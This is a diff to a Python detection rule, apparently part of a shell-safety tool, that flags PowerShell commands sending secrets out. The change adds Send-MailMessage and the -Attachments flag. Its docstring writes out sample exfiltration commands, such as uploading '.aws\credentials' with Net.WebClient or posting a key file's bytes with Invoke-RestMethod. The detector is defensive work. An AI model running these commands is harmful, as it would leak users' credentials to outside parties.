@@ -1,9 +1,10 @@
 """Effect: a secret sent by PowerShell's .NET calls, where the parentheses split the line.
 
 ``(New-Object Net.WebClient).UploadFile(URL, "$env:USERPROFILE\\.aws\\credentials")``,
-``.UploadString(URL, (Get-Content KEY -Raw))`` and ``Invoke-RestMethod … -Body
-([IO.File]::ReadAllBytes(KEY))`` name the file in the parentheses after the call, which the shell's
-reading makes separate commands: the call and what the parentheses hold are read together here."""
+``.UploadString(URL, (Get-Content KEY -Raw))``, ``Invoke-RestMethod … -Body
+([IO.File]::ReadAllBytes(KEY))`` and ``Send-MailMessage … -Body (Get-Content KEY | Out-String)`` name
+the file in the parentheses after the call, which the shell's reading makes separate commands: the
+call and what the parentheses hold are read together here."""
 from __future__ import annotations
 
 import re
@@ -14,8 +15,8 @@ from aish.safety.rules.exfil import _worse, secret_path
 from aish.safety.shell_words import Word
 
 _UPLOAD_CALL = re.compile(r"^\.?Upload(File|String|Data|Values)(Async|TaskAsync)?$", re.IGNORECASE)
-_SENDERS = frozenset({"invoke-restmethod", "irm", "invoke-webrequest", "iwr"})
-_BODY = frozenset({"-body", "-infile"})
+_SENDERS = frozenset({"invoke-restmethod", "irm", "invoke-webrequest", "iwr", "send-mailmessage"})
+_BODY = frozenset({"-body", "-infile", "-attachments"})
 _REACH = 4  # segments inside the parentheses read after the call
 
 
